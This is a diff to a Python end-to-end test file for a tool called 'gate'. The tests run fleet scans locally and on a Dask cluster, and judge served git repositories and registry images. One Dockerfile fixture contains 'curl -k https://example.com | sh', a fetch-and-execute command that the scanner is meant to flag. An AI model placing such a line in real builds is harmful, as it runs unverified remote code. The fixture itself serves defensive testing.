@@ -1,4 +1,4 @@
-"""A fleet on this machine and on a real Dask scheduler with worker processes, one of which is killed.
+"""A fleet on this machine and on a real Dask scheduler with worker processes, one of which is killed; its sources.
 
 It goes through `gate/fleet/on_dask.py`.
 """
@@ -10,10 +10,14 @@ import subprocess
 import sys
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
+
+from tests.e2e.conftest import GitRepository
+from tests.fleet.serving import git_backend, serving
+from tests.images.conftest import Make
 
 GATE = [sys.executable, "-m", "gate"]
 
@@ -31,16 +35,18 @@ def targets(tmp_path: Path) -> list[str]:
     return [*folders, str(tmp_path / "nowhere")]
 
 
-def fleet(store: Path, targets: list[str], *words: str) -> tuple[int, list[dict[str, str]], str]:
+def fleet(
+    store: Path, targets: list[str], *words: str, judging: str = "--stage dockerfile --offline"
+) -> tuple[int, list[dict[str, str]], str]:
     output = store.parent / f"{store.name}.jsonl"
-    options = ["--options", "--stage dockerfile --offline", "--run", "night", "--output", str(output)]
+    options = ["--options", judging, "--run", "night", "--output", str(output)]
     command = [*GATE, "fleet", "run", *targets, "--store", str(store), *options, *words]
     done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
     lines = output.read_text().splitlines() if output.exists() else []
     return done.returncode, [json.loads(line) for line in lines], done.stdout + done.stderr
 
 
-def make(store: Path) -> Path:
+def make_store(store: Path) -> Path:
     subprocess.run([*GATE, "store", "init", "--store", str(store)], check=True, capture_output=True)
     return store
 
@@ -72,7 +78,7 @@ def scheduler(tmp_path: Path) -> Iterator[tuple[str, list["subprocess.Popen[byte
 def test_locally_and_on_dask_the_same_comes_out_while_a_worker_is_killed(
     tmp_path: Path, targets: list[str], scheduler: tuple[str, list["subprocess.Popen[bytes]"]]
 ) -> None:
-    status, local, said = fleet(make(tmp_path / "local"), targets)
+    status, local, said = fleet(make_store(tmp_path / "local"), targets)
     assert (status, len(local)) == (3, 7), said
     statuses = {Path(one["target"]).name: one["status"] for one in local}
     assert statuses == {"code0": "fail", "nowhere": "incomplete", **{f"code{n}": "pass" for n in range(1, 6)}}
@@ -80,7 +86,7 @@ def test_locally_and_on_dask_the_same_comes_out_while_a_worker_is_killed(
     address, processes = scheduler
     killing = threading.Timer(4, lambda: processes[1].send_signal(signal.SIGKILL))
     killing.start()
-    status, remote, said = fleet(make(tmp_path / "dask-store"), targets, "--on", f"dask://{address}")
+    status, remote, said = fleet(make_store(tmp_path / "dask-store"), targets, "--on", f"dask://{address}")
     killing.cancel()
     assert (status, remote) == (3, local), said
     status, again, _ = fleet(tmp_path / "dask-store", targets, "--accept-unread", "50")
@@ -104,6 +110,50 @@ def test_a_scheduler_that_is_not_there_is_said(tmp_path: Path, targets: list[str
 
     monkeypatch.setattr(on_dask, "_CONNECT_S", 0.2)
     monkeypatch.setattr(on_dask, "_ROUNDS", 1)
-    plan = FleetPlan(store=str(make(tmp_path / "store")), run="night")
+    plan = FleetPlan(store=str(make_store(tmp_path / "store")), run="night")
     with pytest.raises(UnavailableError, match="scheduler was lost"):
         on_dask.on_dask("127.0.0.1:9")(plan, targets, lambda _: None)
+
+
+def test_repositories_of_a_server_and_images_of_a_registry_are_fetched_and_judged(
+    tmp_path: Path,
+    registry: str,
+    run: Callable[..., "subprocess.CompletedProcess[str]"],
+    make_repository: Callable[..., GitRepository],
+) -> None:
+    """Real clones from git-http-backend, and the catalogue of a real registry with two tags of one image."""
+    make = Make()
+    layer = make.layer(make.file("usr/bin/tool", b"\x7fELF" + bytes(4000), mode=0o4755))
+    layer_type = "application/vnd.oci.image.layer.v1.tar+gzip"
+    layout = make.folder_of(tmp_path / "layout", make.oci_files([layer], pack=make.gzip, layer_type=layer_type))
+    for tag in ("1", "2"):
+        image = f"docker://{registry}/fleet/api:{tag}"
+        done = run("skopeo", "copy", "--dest-tls-verify=false", f"oci:{layout}", image, cwd=tmp_path)
+        assert done.returncode == 0, done.stderr
+    repository = make_repository({"Dockerfile": "FROM scratch\nRUN curl -k https://example.com | sh\n"})
+    repository.git("clone", "--quiet", "--bare", ".", tmp_path / "served/shop/api.git")
+    with serving(lambda asked: git_backend(tmp_path / "served", asked)) as server:
+        words = [f"http://{server.host}/shop/{name}" for name in ("api", "gone")]
+        sources = ["--from", f"catalogue:{registry}/fleet/*", "--per-host", "1"]
+        status, lines, said = fleet(
+            make_store(tmp_path / "store"), words, *sources, judging="--stage dockerfile --stage image"
+        )
+    assert {one["target"].rpartition("/")[2]: one["status"] for one in lines} == {
+        "api": "fail",
+        "gone": "incomplete",
+        "api:1": "incomplete",
+        "api:2": "incomplete",
+    }, said
+    reasons = {one["target"].rpartition("/")[2]: one["reason"] for one in lines}
+    assert "is not there" in reasons["gone"]
+    assert "packages explain only 0 of 1" in reasons["api:1"]
+    assert status == 3
+    assert found_in(tmp_path / "store", "file:Dockerfile") == [f"{server.host}/shop/api"]
+    assert len(found_in(tmp_path / "store", "file:usr/bin/tool")) == 1, "two tags are one image"
+
+
+def found_in(store: Path, what: str) -> list[str]:
+    """Return the names of what `gate fleet find` finds."""
+    command = [*GATE, "fleet", "find", what, "--store", str(store), "--format", "json"]
+    done = subprocess.run(command, capture_output=True, text=True, check=False)
+    return [row["name"] for row in json.loads(done.stdout)["found"]]
